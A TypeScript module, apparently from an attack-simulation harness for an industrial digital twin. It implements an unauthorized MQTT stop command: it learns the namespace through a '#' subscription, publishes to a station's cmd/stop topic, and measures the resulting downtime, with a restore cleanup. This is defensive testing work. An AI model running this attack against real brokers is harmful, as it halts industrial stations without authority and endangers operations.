/**
 * Unauthorized command message over MQTT: learn the twin's namespace from a `#` subscription,
 * then publish the station's stop command topic (`<prefix>/<station>/cmd/stop`) and read the
 * twin's reply.
 */
import { T } from '../techniques.ts';
import type { Attack } from '../types.ts';
import { before, restore, trail, watch } from './common.ts';

export const mqttStop: Attack = {
  id: 'mqtt-stop',
  title: 'MQTT command topic: the station\'s stop command published without authority',
  techniques: [T.unauthorizedCommandMessage],
  face: 'mqtt',
  preconditions: ['a connection to the broker (anonymous, or an account the attacker holds)', 'the UNS prefix (learned from a # subscription)'],
  steps: ['CONNECT and SUBSCRIBE # to learn the prefix', 'SUBSCRIBE <prefix>/<station>/cmd/stop/reply', 'PUBLISH {} to <prefix>/<station>/cmd/stop (QoS 1)', 'watch the station'],
  expectedImpact: 'the station stops: downtime until an operator restarts it',
  async run(ctx) {
    // the client library loads on demand, so `attack list` answers at once
    const { listen, mqttClose, mqttConnect, publish } = await import('../clients/mqtt.ts');
    const evidence: string[] = [];
    const was = await before(ctx);
    const station = ctx.station.toLowerCase();
    const client = await mqttConnect(ctx, evidence);
    let result = 'no connection';
    const answer = { reply: null as string | null };
    if (client !== null) {
      const { prefix } = await listen(client, station, 3000);
      if (prefix === null) result = 'no UNS topic of the twin seen';
      else {
        const topic = `${prefix}/${station}/cmd/stop`;
        client.on('message', (t, p) => {
          if (t === `${topic}/reply`) answer.reply = p.toString('utf8').slice(0, 300);
        });
        await client.subscribeAsync(`${topic}/reply`).catch(() => undefined);
        result = await publish(client, topic, '{}');
        evidence.push(`MQTT: PUBLISH ${topic} → ${result}`);
        const end = Date.now() + 3000;
        while (answer.reply === null && client.connected && Date.now() < end) await new Promise((r) => setTimeout(r, 100));
        if (answer.reply !== null) evidence.push(`MQTT: reply ${answer.reply}`);
      }
      await mqttClose(client);
    }
    const w = await watch(ctx, result === 'acked' ? ctx.watchMs : 0);
    await trail(ctx, evidence, result !== 'acked');
    const stopped = w.last !== null ? ['Stopping', 'Stopped'].some((s) => w.states.includes(s)) : answer.reply?.includes('"ok":true') === true;
    return {
      outcome: stopped ? 'succeeded' : 'blocked',
      evidence,
      impact: { publish: result, stateBefore: was?.state ?? null, states: w.states, stateAfter: w.last?.state ?? null, downtimeS: w.downtimeS },
    };
  },
  cleanup: restore,
};
